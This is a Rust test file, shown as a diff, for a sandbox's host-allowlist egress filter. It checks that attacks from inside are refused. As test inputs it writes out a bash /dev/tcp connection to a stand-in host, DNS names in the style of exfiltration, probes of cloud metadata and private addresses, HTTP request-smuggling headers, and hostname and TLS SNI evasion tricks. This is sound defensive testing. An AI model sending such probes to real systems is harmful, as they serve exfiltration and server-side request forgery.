@@ -1,0 +1,575 @@
+//! Attacks on the list of hosts: 19 to 25. Each is tried where it must not work, and in a twin where it must: outside, or
+//! with what is listed.
+
+use std::process::Command;
+use std::sync::Arc;
+use std::time::Duration;
+
+use kitbag_sandbox::egress::{Egress, Hosts, Outside, Refusal, Verdict};
+use kitbag_sandbox::{
+    Breach, Ending, Item, Limits, Network, NetworkIsolation, Outcome, Plan, Programs, Rights, Run, Traffic,
+    run_through,
+};
+
+use crate::servers::{Manner, Model, PUBLIC, Server};
+use crate::world::{Attack, EAFNOSUPPORT, EPERM, Seen, Twin, World, tools};
+
+/// A world with servers, and a plan that reaches some of them.
+pub struct Net {
+    world: World,
+    pub plan: Plan,
+    pub model: Arc<Model>,
+    http: Server,
+    tls: Server,
+}
+
+impl Net {
+    fn new(hosts: &[&str]) -> Option<Self> {
+        Self::with(hosts, |model| model)
+    }
+
+    fn with(hosts: &[&str], more: impl FnOnce(Model) -> Model) -> Option<Self> {
+        let world = World::new()?;
+        let (http, tls) = (Server::start(Manner::Obliging), Server::start(Manner::Plain));
+        let ports = [(80, http.port), (443, tls.port), (8080, http.port), (8443, tls.port)];
+        let model = Arc::new(more(Model::new(&ports)));
+        let mut plan = world.plan(&Programs::Any);
+        plan.tree.push(Item::Host {
+            from: tools()?.speaker.clone(),
+            at: "/speaker".into(),
+            rights: Rights::Code,
+        });
+        plan.program = "/speaker".into();
+        plan.network = Network::Listed(Hosts::parse(hosts.iter().copied()).unwrap());
+        Some(Self { world, plan, model, http, tls })
+    }
+
+    fn run(&self, words: &[&str]) -> Run {
+        let plan = Plan { arguments: words.iter().map(Into::into).collect(), ..self.plan.clone() };
+        let outside: Arc<dyn Outside> = Arc::<Model>::clone(&self.model);
+        run_through(&plan, outside).unwrap_or_else(|error| panic!("{words:?}: {error}: {error:?}"))
+    }
+
+    /// What a conversation comes to inside, and what is recorded of it.
+    fn inside(&self, words: &[&str]) -> (String, Egress) {
+        let Outcome { output, errors, egress, ending, .. } = self.run(words).outcome;
+        assert_eq!(ending, Ending::Exited(0), "{words:?}: {}", String::from_utf8_lossy(&errors));
+        (String::from_utf8(output).unwrap().trim_end().to_owned(), egress)
+    }
+
+    /// The same conversation outside, with the server itself.
+    fn outside(words: &[&str]) -> String {
+        let output = Command::new(&tools().unwrap().speaker).args(words).output().unwrap();
+        assert!(output.status.success(), "{words:?}: {output:?}");
+        String::from_utf8(output.stdout).unwrap().trim_end().to_owned()
+    }
+
+    /// A conversation that must be refused because of `refusal`, asked of `host`.
+    fn refused(&self, words: &[&str], host: &str, port: Option<u16>, refusal: &Refusal) {
+        let (dialled, heard) = (self.model.dialled().len(), self.heard());
+        let (said, egress) = self.inside(words);
+        assert!(is_refusal(&said), "{words:?}: {said}");
+        let verdict = Verdict::Refused(refusal.clone());
+        let found = egress
+            .asked
+            .iter()
+            .any(|asked| (&*asked.host, asked.port, &asked.verdict, asked.sent) == (host, port, &verdict, 0));
+        assert!(found, "{words:?}: {:#?}", egress.asked);
+        assert_eq!(self.model.dialled().len(), dialled, "{words:?} dialled");
+        assert_eq!(self.heard(), heard, "{words:?} was heard");
+    }
+
+    fn reached(&self, words: &[&str], host: &str, port: u16) {
+        let (said, egress) = self.inside(words);
+        assert!(!is_refusal(&said), "{words:?}: {said}: {:#?}", egress.asked);
+        let asked = egress.asked.iter().find(|asked| (&*asked.host, asked.port) == (host, Some(port)));
+        let asked = asked.unwrap_or_else(|| panic!("{words:?}: {:#?}", egress.asked));
+        assert_eq!((&asked.verdict, asked.times), (&Verdict::Allowed, 1), "{words:?}");
+        assert!(asked.sent > 0 && asked.received > 0, "{words:?}: {asked:?}");
+    }
+
+    fn heard(&self) -> usize {
+        self.http.heard().len() + self.tls.heard().len()
+    }
+}
+
+/// What somebody who was refused is told: by HTTP, by TLS, or by nobody.
+fn is_refusal(said: &str) -> bool {
+    const ALERT: &str = "said \\x15\\x03\\x03\\x00\\x02\\x021";
+    ["said HTTP/1.1 403", "said HTTP/1.1 400", "errno ", "code ", "closed"]
+        .iter()
+        .any(|start| said.starts_with(start))
+        || said == ALERT
+}
+
+fn get(host: &str) -> String {
+    format!("GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
+}
+
+/// The last request of a connection, for a server that would wait for more.
+fn last(host: &str) -> String {
+    format!("GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n")
+}
+
+/// A client's first message that names `name`, with `more` extensions, as the speaker takes it.
+fn hello(name: Option<&[u8]>, more: &[u8]) -> String {
+    let long = |content: &[u8]| [&u16::try_from(content.len()).unwrap().to_be_bytes(), content].concat();
+    let mut extensions = more.to_vec();
+    if let Some(name) = name {
+        extensions.extend([&[0, 0][..], &long(&long(&[&[0][..], &long(name)].concat()))].concat());
+    }
+    let body = [&[3, 3][..], &[7; 32], &[0], &long(&[0x13, 1]), &[1, 0], &long(&extensions)].concat();
+    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
+    let message = [&[1][..], &length[1..], &body].concat();
+    let record = [&[22, 3, 1][..], &long(&message)].concat();
+    record.iter().map(|byte| format!("\\x{byte:02x}")).collect()
+}
+
+#[test]
+fn a_host_that_is_not_listed_is_reached_in_no_way() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
+    net.reached(&["say", "good.test", "443", &hello(Some(b"good.test"), &[])], "good.test", 443);
+    let port = net.http.port.to_string();
+    assert!(Net::outside(&["say", "127.0.0.1", &port, &last("evil.test")]).starts_with("said HTTP/1.1 200"));
+
+    let not_listed = &Refusal::NotListed;
+    net.refused(&["name", "evil.test", "127.0.0.1"], "evil.test", None, not_listed);
+    net.refused(&["say", "evil.test", "80", ""], "evil.test", None, not_listed);
+    for address in ["1.2.3.4", "169.254.169.254", "10.0.0.1", "2606:4700::1111", "::ffff:1.2.3.4"] {
+        net.refused(&["say", address, "80", &get("evil.test")], "evil.test", Some(80), not_listed);
+        let hello = hello(Some(b"evil.test"), &[]);
+        net.refused(&["say", address, "443", &hello], "evil.test", Some(443), not_listed);
+    }
+    net.refused(&["say", "1.2.3.4", "80", &get("1.2.3.4")], "1.2.3.4", Some(80), not_listed);
+    net.refused(&["say", "1.2.3.4", "443", &hello(None, &[])], "1.2.3.4", Some(443), not_listed);
+    let connect = "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n";
+    net.refused(&["say", "127.0.0.1", "3128", connect], "evil.test", Some(443), not_listed);
+    let whole = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
+    net.refused(&["say", "127.0.0.1", "3128", whole], "evil.test", Some(80), not_listed);
+    // A listed host has only its ports, also by way of the proxy.
+    let other_port = "CONNECT good.test:22 HTTP/1.1\\r\\n\\r\\n";
+    net.refused(&["say", "127.0.0.1", "3128", other_port], "good.test", Some(22), not_listed);
+}
+
+#[test]
+fn nothing_but_the_doors_leads_out() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    let port = net.http.port.to_string();
+    let words = ["say", "127.0.0.1", &port, &last("good.test")];
+    assert!(Net::outside(&words).starts_with("said HTTP/1.1 200"));
+    let refused = format!("errno {}", 111);
+    // The caller's own servers, a port that is no door, and HTTP/3.
+    assert_eq!(net.inside(&words).0, refused);
+    assert_eq!(net.inside(&["say", "good.test", "22", "x"]).0, refused);
+    assert_eq!(net.inside(&["datagram", "good.test", "443"]).0, refused);
+    assert_eq!(net.heard(), 1);
+}
+
+#[test]
+fn what_is_said_before_the_end_is_recorded_even_if_nobody_waits_for_an_answer() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    let mut plan = net.plan.clone();
+    plan.program = "/bin/bash".into();
+    plan.arguments =
+        ["-c", "exec 3<>/dev/tcp/1.2.3.4/80; printf 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' >&3"]
+            .map(Into::into)
+            .to_vec();
+    if !std::path::Path::new("/bin/bash").exists() {
+        return kitbag_testkit::cases::skip("`/bin/bash` is not installed");
+    }
+    let outside: Arc<dyn Outside> = Arc::<Model>::clone(&net.model);
+    let outcome = run_through(&plan, outside).unwrap().outcome;
+    let verdict = Verdict::Refused(Refusal::NotListed);
+    let asked = &outcome.egress.asked;
+    assert!(
+        asked
+            .iter()
+            .any(|asked| (&*asked.host, asked.port, &asked.verdict) == ("evil.test", Some(80), &verdict)),
+        "{outcome:?}"
+    );
+}
+
+#[test]
+fn a_question_about_a_name_never_leaves_the_host() {
+    let Some(net) = Net::new(&["good.test", "*.good.test"]) else { return };
+    assert_eq!(net.inside(&["name", "good.test", "127.0.0.1"]).0, "address 198.18.0.1");
+    for name in ["secret.evil.test", "c2vjcmv0.evil.test", "good.test.evil.test", "xgood.test"] {
+        net.refused(&["name", name, "127.0.0.1"], name, None, &Refusal::NotListed);
+    }
+    // One whose owner is listed is asked for when it is connected to, and not before.
+    assert_eq!(net.inside(&["name", "secret.good.test", "127.0.0.1"]).0, "address 198.18.0.1");
+    assert_eq!(net.model.asked(), [""; 0], "nobody outside was asked");
+    // Whichever server is asked, it is this one.
+    let (said, egress) = net.inside(&["name", "secret.evil.test", "8.8.8.8"]);
+    assert_eq!(said, "code 3");
+    assert!(egress.asked.iter().any(|asked| asked.host == "secret.evil.test"), "{egress:?}");
+    net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
+    assert_eq!(net.model.asked(), ["good.test"]);
+}
+
+#[test]
+fn a_name_that_leads_to_a_private_address_is_not_dialled() {
+    const PRIVATE: [&[&str]; 9] = [
+        &["127.0.0.1"],
+        &["10.0.0.1"],
+        &["169.254.169.254"],
+        &["100.64.0.1"],
+        &["::1"],
+        &["::ffff:10.0.0.1"],
+        &["64:ff9b::a00:1"],
+        &["2002:a00:1::1"],
+        // One of several is enough.
+        &["1.2.3.4", "192.168.0.1"],
+    ];
+    for answer in PRIVATE {
+        let Some(net) = Net::with(&["good.test"], |model| model.name("good.test", &[answer])) else { return };
+        let last = answer.last().unwrap().parse::<std::net::IpAddr>().unwrap().to_canonical();
+        let refusal = Refusal::Private(last);
+        net.refused(&["say", "good.test", "80", &get("good.test")], "good.test", Some(80), &refusal);
+        let hello = hello(Some(b"good.test"), &[]);
+        net.refused(&["say", "good.test", "443", &hello], "good.test", Some(443), &refusal);
+        let connect = "CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\n";
+        net.refused(&["say", "127.0.0.1", "3128", connect], "good.test", Some(443), &refusal);
+    }
+    // The same addresses, listed.
+    for (listed, answer) in
+        [("127.0.0.1", "127.0.0.1"), ("@local", "10.0.0.1"), ("10.0.0.1", "::ffff:10.0.0.1")]
+    {
+        let hosts = ["good.test", listed];
+        let Some(net) = Net::with(&hosts, |model| model.name("good.test", &[&[answer]])) else { return };
+        net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
+    }
+}
+
+#[test]
+fn a_name_is_looked_up_once_and_what_was_vetted_is_dialled() {
+    let change = |model: Model| model.name("good.test", &[&["1.2.3.4"], &["127.0.0.1"]]);
+    let Some(net) = Net::with(&["good.test"], change) else { return };
+    net.reached(&["say", "good.test", "80", &get("good.test")], "good.test", 80);
+    assert_eq!((net.model.asked().len(), net.model.dialled()), (1, vec![(PUBLIC, 80).into()]));
+    // The next connection is vetted anew.
+    let refusal = Refusal::Private([127, 0, 0, 1].into());
+    net.refused(&["say", "good.test", "80", &get("good.test")], "good.test", Some(80), &refusal);
+}
+
+#[test]
+fn what_is_said_must_be_what_the_address_was_given_for() {
+    let Some(net) = Net::new(&["good.test", "other.test"]) else { return };
+    for host in ["good.test", "other.test"] {
+        net.reached(&["say", host, "80", &get(host)], host, 80);
+        net.reached(&["say", host, "443", &hello(Some(host.as_bytes()), &[])], host, 443);
+    }
+    let on_good = |port| Refusal::OtherHost(format!("good.test:{port}"));
+    net.refused(&["say", "good.test", "80", &get("other.test")], "other.test", Some(80), &on_good(80));
+    net.refused(&["say", "good.test", "80", &get("evil.test")], "evil.test", Some(80), &Refusal::NotListed);
+    net.refused(
+        &["say", "good.test", "80", &get("good.test:8080")],
+        "good.test",
+        Some(8080),
+        &Refusal::NotListed,
+    );
+    let other = hello(Some(b"other.test"), &[]);
+    net.refused(&["say", "good.test", "443", &other], "other.test", Some(443), &on_good(443));
+    // A listed name at an address that it was never given.
+    let at_address = Refusal::OtherHost("1.2.3.4:80".to_owned());
+    net.refused(&["say", "1.2.3.4", "80", &get("good.test")], "good.test", Some(80), &at_address);
+    // Two statements of one request.
+    let two = "GET http://good.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n";
+    for place in [["good.test", "80"], ["127.0.0.1", "3128"]] {
+        let port = place[1].parse().ok();
+        net.refused(&["say", place[0], place[1], two], "other.test", port, &on_good(80));
+    }
+    let one = "GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n";
+    net.reached(&["say", "good.test", "80", one], "good.test", 80);
+    net.reached(&["say", "127.0.0.1", "3128", one], "good.test", 80);
+    let twice = "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n";
+    let malformed = Refusal::Malformed("there is not exactly one `Host`");
+    net.refused(&["say", "good.test", "80", twice], "good.test", Some(80), &malformed);
+    // What is inside a tunnel is looked at as well.
+    let tunnel = "CONNECT good.test:443 HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n";
+    let connect =
+        |name: &[u8]| ["twice", "127.0.0.1", "3128", tunnel, &hello(Some(name), &[])].map(str::to_owned);
+    for (name, through) in [(&b"good.test"[..], true), (b"other.test", false), (b"evil.test", false)] {
+        let words = connect(name);
+        let (said, _) = net.inside(&words.each_ref().map(String::as_str));
+        assert!(said.starts_with("first HTTP/1.1 200"), "{said}");
+        assert_eq!(said.ends_with("plainly"), through, "{said}");
+    }
+}
+
+#[test]
+fn a_handshake_says_whom_it_is_for_in_the_open() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    let refused = |hello: String, refusal: Refusal| {
+        net.refused(&["say", "good.test", "443", &hello], "good.test", Some(443), &refusal);
+    };
+    let hidden = [0xfe, 0x0d, 0, 4, 1, 2, 3, 4];
+    net.reached(&["say", "good.test", "443", &hello(Some(b"good.test"), &[0, 43, 0, 0])], "good.test", 443);
+    refused(hello(Some(b"good.test"), &hidden), Refusal::Hidden);
+    refused(hello(None, &[]), Refusal::Nameless);
+    for name in [&b"good.test\0.evil.test"[..], b"1.2.3.4", b"[::1]"] {
+        refused(hello(Some(name), &[]), Refusal::NoHost);
+    }
+    refused(get("good.test"), Refusal::Malformed("no TLS handshake"));
+}
+
+#[test]
+fn a_host_has_one_spelling_and_riddles_have_none() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    for spelling in ["good.test", "GOOD.test", "good.test."] {
+        net.reached(&["say", "good.test", "80", &get(spelling)], "good.test", 80);
+        let connect = format!("CONNECT {spelling}:443 HTTP/1.1\\r\\n\\r\\n");
+        let words = ["twice", "127.0.0.1", "3128", &connect, &hello(Some(b"good.test"), &[])];
+        net.reached(&words, "good.test", 443);
+    }
+    assert_eq!(net.inside(&["name", "GOOD.tEsT", "127.0.0.1"]).0, "address 198.18.0.1");
+    for riddle in [
+        "good.test\\x00.evil.test",
+        "evil@good.test",
+        "good.test%00",
+        "127.1",
+        "0x7f000001",
+        "good.test..",
+        "[::1",
+    ] {
+        let (said, egress) = net.inside(&["say", "good.test", "80", &get(riddle)]);
+        assert!(said.starts_with("said HTTP/1.1 400"), "{riddle}: {said}");
+        assert!(!egress.asked.iter().any(|asked| asked.port.is_some() && asked.verdict == Verdict::Allowed));
+        let connect = format!("CONNECT {riddle}:443 HTTP/1.1\\r\\n\\r\\n");
+        let (said, _) = net.inside(&["say", "127.0.0.1", "3128", &connect]);
+        assert!(said.starts_with("said HTTP/1.1 400"), "{riddle}: {said}");
+    }
+    // A dot inside a label is no dot between two.
+    let (said, _) = net.inside(&["name", "good\\x2etest", "127.0.0.1"]);
+    assert_eq!(said, "code 3");
+    assert_eq!(net.inside(&["name", "good.test\\x00evil", "127.0.0.1"]).0, "code 3");
+    for address in ["[::1]", "127.0.0.1"] {
+        net.refused(&["say", "good.test", "80", &get(address)], address, Some(80), &Refusal::NotListed);
+    }
+}
+
+#[test]
+fn a_connection_is_for_one_request() {
+    let Some(net) = Net::new(&["good.test", "other.test"]) else { return };
+    let port = net.http.port.to_string();
+    let both = format!("{}{}", get("good.test"), get("evil.test"));
+    let answers = |said: &str| said.matches("HTTP/1.1 200").count();
+    // Outside the server answers both.
+    assert_eq!(answers(&Net::outside(&["twice", "127.0.0.1", &port, &both, &last("other.test")])), 3);
+    assert_eq!(net.http.heard().len(), 3);
+    let length = |length: &str, more: &str| {
+        format!("POST / HTTP/1.1\\r\\nHost: good.test\\r\\n{length}\\r\\n\\r\\n{more}{}", get("evil.test"))
+    };
+    for (name, words) in [
+        ("at once", ["say", "good.test", "80", &both]),
+        ("after content", ["say", "good.test", "80", &length("Content-Length: 2", "ab")]),
+        ("after no content", ["say", "good.test", "80", &length("Content-Length: 0", "")]),
+    ] {
+        let before = net.http.heard().len();
+        let (said, egress) = net.inside(&words);
+        assert_eq!(answers(&said), 1, "{name}: {said}");
+        assert_eq!(net.http.heard().len(), before + 1, "{name}: {:?}", net.http.heard());
+        let second = Verdict::Refused(Refusal::SecondRequest);
+        assert!(egress.asked.iter().any(|asked| asked.verdict == second), "{name}: {egress:#?}");
+    }
+    // Later, on the same connection, also to a host that is listed.
+    for host in ["evil.test", "other.test", "good.test"] {
+        let before = net.http.heard().len();
+        let (said, _) = net.inside(&["twice", "good.test", "80", &get("good.test"), &get(host)]);
+        assert_eq!(answers(&said), 1, "{host}: {said}");
+        assert_eq!(net.http.heard().len(), before + 1, "{host}");
+    }
+    // Where two readers see two ends, nobody is told anything.
+    for fields in [
+        "Content-Length: 3\\r\\nContent-Length: 60",
+        "Content-Length: 4\\r\\nTransfer-Encoding: chunked",
+        "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity",
+        "Transfer-Encoding:\\x0bchunked",
+        "Connection: content-length\\r\\nContent-Length: 60",
+    ] {
+        let before = net.http.heard().len();
+        let (said, _) = net.inside(&["say", "good.test", "80", &length(fields, "0\\r\\n\\r\\n")]);
+        assert!(said.starts_with("said HTTP/1.1 400"), "{fields}: {said}");
+        assert_eq!(net.http.heard().len(), before, "{fields}");
+    }
+}
+
+#[test]
+fn a_port_of_its_own_is_a_door_and_what_is_spoken_there_is_looked_at() {
+    let greeter = Server::start(Manner::Greeting);
+    let hosts = ["good.test:8080", "good.test:8443", "good.test:2525", "other.test"];
+    let Some(net) = Net::new(&hosts) else { return };
+    net.reached(&["say", "good.test", "8080", &get("good.test:8080")], "good.test", 8080);
+    let to_other = Refusal::NotListed;
+    net.refused_after_dialling(&["say", "good.test", "8080", &get("evil.test")], "evil.test", 80, &to_other);
+    let folded = format!("\\r\\n{}", get("evil.test"));
+    let line = Refusal::Malformed("the first line is no request of HTTP/1");
+    net.refused_after_dialling(&["say", "good.test", "8080", &folded], "good.test", 8080, &line);
+    net.reached(&["say", "good.test", "8443", &hello(Some(b"good.test"), &[])], "good.test", 8443);
+    let hello = hello(Some(b"evil.test"), &[]);
+    net.refused_after_dialling(&["say", "good.test", "8443", &hello], "evil.test", 8443, &Refusal::NotListed);
+    net.refused(
+        &["say", "other.test", "8080", &get("other.test")],
+        "other.test",
+        Some(8080),
+        &Refusal::NotListed,
+    );
+    net.refused(&["say", "good.test", "80", &get("good.test")], "good.test", Some(80), &Refusal::NotListed);
+    // A server that speaks first is listened to.
+    let model = Model::new(&[(2525, greeter.port)]);
+    let net = Net { model: Arc::new(model), ..net };
+    let (said, egress) = net.inside(&["listen", "good.test", "2525", "EHLO me\\r\\n"]);
+    assert_eq!(said, "heard greetings\\n\nsaid EHLO me\\r\\n");
+    let asked = egress.asked.iter().find(|asked| asked.port == Some(2525)).unwrap();
+    assert_eq!((&asked.verdict, asked.sent, asked.received), (&Verdict::Allowed, 9, 19));
+}
+
+impl Net {
+    /// At a port of its own a host is dialled before anybody speaks; but nothing is said there.
+    fn refused_after_dialling(&self, words: &[&str], host: &str, port: u16, refusal: &Refusal) {
+        let requests = self.http.heard().len();
+        let (said, egress) = self.inside(words);
+        assert!(is_refusal(&said), "{words:?}: {said}");
+        let verdict = Verdict::Refused(refusal.clone());
+        let found = |asked: &&kitbag_sandbox::egress::Asked| {
+            (&*asked.host, asked.port, &asked.verdict) == (host, Some(port), &verdict)
+        };
+        assert!(egress.asked.iter().any(|asked| found(&asked)), "{words:?}: {:#?}", egress.asked);
+        assert!(egress.asked.iter().all(|asked| asked.sent == 0), "{words:?}: {:#?}", egress.asked);
+        assert_eq!(self.http.heard().len(), requests, "{words:?} was heard");
+    }
+}
+
+#[test]
+fn the_callers_own_servers_are_reached_where_they_are_listed() {
+    let server = Server::start(Manner::Obliging);
+    let port = server.port.to_string();
+    for listed in [format!("@local:{port}"), format!("localhost:{port}"), format!("127.0.0.1:{port}")] {
+        let Some(net) = Net::new(&[&listed]) else { return };
+        let net = Net { model: Arc::new(Model::new(&[])), ..net };
+        let host = format!("127.0.0.1:{port}");
+        net.reached(&["say", "127.0.0.1", &port, &get(&host)], "127.0.0.1", server.port);
+        let localhost = get(&format!("localhost:{port}"));
+        if listed.starts_with("127") {
+            let (said, _) = net.inside(&["say", "127.0.0.1", &port, &localhost]);
+            assert!(is_refusal(&said), "{said}");
+        } else {
+            net.reached(&["say", "127.0.0.1", &port, &localhost], "localhost", server.port);
+        }
+        net.refused_after_dialling(
+            &["say", "127.0.0.1", &port, &get("good.test")],
+            "good.test",
+            80,
+            &Refusal::NotListed,
+        );
+        assert_eq!(net.inside(&["say", "127.0.0.1", &net.http.port.to_string(), "x"]).0, "errno 111");
+        assert_eq!(net.model.asked(), [""; 0]);
+    }
+}
+
+#[test]
+fn an_empty_list_is_no_network() {
+    let Some(mut net) = Net::new(&[]) else { return };
+    for network in [Network::Listed(Hosts::default()), Network::Proxied(Hosts::default())] {
+        net.plan.network = network;
+        let run = net.run(&["say", "1.2.3.4", "80", "x"]);
+        assert_eq!(run.report.network, NetworkIsolation::None);
+        assert_eq!(String::from_utf8_lossy(&run.outcome.output), "errno 97\n");
+        assert_eq!(run.outcome.egress, Egress::default());
+    }
+}
+
+#[test]
+fn a_network_brings_tcp_and_udp_and_no_other_socket() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    let plan = Plan { program: "/attack".into(), ..net.plan.clone() };
+    net.world.withstands(
+        &plan,
+        &[
+            Attack(&["socket", "2", "1"], Twin::Anyone, &[Seen::Open]),
+            Attack(&["socket", "10", "2"], Twin::Anyone, &[Seen::Open]),
+            Attack(&["socket", "1", "1"], Twin::Anyone, EAFNOSUPPORT),
+            Attack(&["socket", "16", "3"], Twin::Anyone, EAFNOSUPPORT),
+            Attack(&["socket", "17", "3"], Twin::Root, EAFNOSUPPORT),
+            Attack(&["socket", "2", "3"], Twin::Is(&[Seen::Errno(93), Seen::Errno(1), Seen::Open]), EPERM),
+            Attack(&["socket", "38", "5"], Twin::Anyone, EAFNOSUPPORT),
+            Attack(&["socket", "40", "1"], Twin::Anyone, EAFNOSUPPORT),
+            Attack(&["ring"], Twin::Anyone, EPERM),
+        ],
+    );
+}
+
+#[test]
+fn only_the_proxy_is_there_when_that_is_what_was_asked_for() {
+    let Some(mut net) = Net::new(&["good.test"]) else { return };
+    net.plan.network = Network::Proxied(Hosts::parse(["good.test"]).unwrap());
+    let run = net.run(&["name", "good.test", "127.0.0.1"]);
+    assert_eq!(run.report.network, NetworkIsolation::Proxied);
+    assert_eq!(String::from_utf8_lossy(&run.outcome.output), "errno 111\n");
+    assert_eq!(net.inside(&["say", "1.2.3.4", "80", "x"]).0, "errno 101");
+    let whole = "GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n";
+    net.reached(&["say", "127.0.0.1", "3128", whole], "good.test", 80);
+    let evil = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
+    net.refused(&["say", "127.0.0.1", "3128", evil], "evil.test", Some(80), &Refusal::NotListed);
+    let mut plan =
+        Plan { program: "/attack".into(), arguments: vec!["variables".into()], ..net.plan.clone() };
+    plan.environment = vec![("NO_PROXY".into(), "*".into()), ("https_proxy".into(), "x".into())];
+    let outside: Arc<dyn Outside> = Arc::<Model>::clone(&net.model);
+    let outcome = run_through(&plan, outside).unwrap().outcome;
+    let text = String::from_utf8(outcome.output).unwrap();
+    let names: Vec<&str> =
+        text.lines().filter_map(|line| line.strip_suffix("=http://127.0.0.1:3128")).collect();
+    assert_eq!(names.len(), 6, "{text}");
+    assert!(!text.contains("NO_PROXY") && text.contains("NODE_USE_ENV_PROXY=1"), "{text}");
+}
+
+fn limited(net: &Net, traffic: Traffic, words: &[&str]) -> Outcome {
+    let limits = Limits { traffic, ..net.plan.limits };
+    let arguments = words.iter().map(Into::into).collect();
+    let outside: Arc<dyn Outside> = Arc::<Model>::clone(&net.model);
+    run_through(&Plan { limits, arguments, ..net.plan.clone() }, outside).unwrap().outcome
+}
+
+#[test]
+fn a_limit_of_the_network_that_is_gone_over_names_itself() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    let few = Traffic { connections: 3, ..Traffic::default() };
+    let many = |count| ["many", "good.test", "80", count];
+    let short = Limits { wall: Duration::from_secs(2), ..net.plan.limits };
+    let plan = Plan { limits: short, ..net.plan.clone() };
+    assert_eq!(limited(&net, few, &many("4")).ending, Ending::Breached(Breach::Connections));
+    let enough = limited(&Net { plan, ..Net::new(&["good.test"]).unwrap() }, few, &many("3"));
+    assert_eq!((enough.ending, enough.egress.connections), (Ending::Breached(Breach::Wall), 3));
+
+    let little = Traffic { bytes: 1 << 20, ..Traffic::default() };
+    let post = "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 8388608\\r\\n\\r\\n";
+    let flood = ["flood", "good.test", "80", post, "8"];
+    let outcome = limited(&net, little, &flood);
+    assert_eq!(outcome.ending, Ending::Breached(Breach::Traffic));
+    let limit = Verdict::Refused(Refusal::Limit("the limit of traffic"));
+    assert!(outcome.egress.asked.iter().any(|asked| asked.verdict == limit), "{:#?}", outcome.egress);
+    assert_eq!(limited(&net, Traffic::default(), &flood).ending, Ending::Exited(0));
+}
+
+#[test]
+fn nobody_is_waited_for_for_ever() {
+    let Some(net) = Net::new(&["good.test"]) else { return };
+    let idle = Traffic { idle: Duration::from_millis(300), ..Traffic::default() };
+    let open = Traffic { open: Duration::from_millis(300), ..Traffic::default() };
+    let half = ["say", "good.test", "80", "GET / HTTP/1.1\\r\\nHost: good"];
+    for (traffic, refusal) in [(idle, Refusal::Silent), (open, Refusal::Lasting)] {
+        let outcome = limited(&net, traffic, &half);
+        assert_eq!(outcome.ending, Ending::Exited(0));
+        let verdict = Verdict::Refused(refusal);
+        assert!(outcome.egress.asked.iter().any(|asked| asked.verdict == verdict), "{:#?}", outcome.egress);
+    }
+    // A head without an end.
+    let long = format!("GET / HTTP/1.1\\r\\nX: {}", "x".repeat(40 << 10));
+    let (said, egress) = net.inside(&["say", "good.test", "80", &long]);
+    assert!(said.starts_with("said HTTP/1.1 403"), "{said}");
+    let limit = Verdict::Refused(Refusal::Limit("the limit of a head's length"));
+    assert!(egress.asked.iter().any(|asked| asked.verdict == limit), "{egress:#?}");
+    let allowed = format!("GET / HTTP/1.1\\r\\nHost: good.test\\r\\nX: {}\\r\\n\\r\\n", "x".repeat(30 << 10));
+    net.reached(&["say", "good.test", "80", &allowed], "good.test", 80);
+}
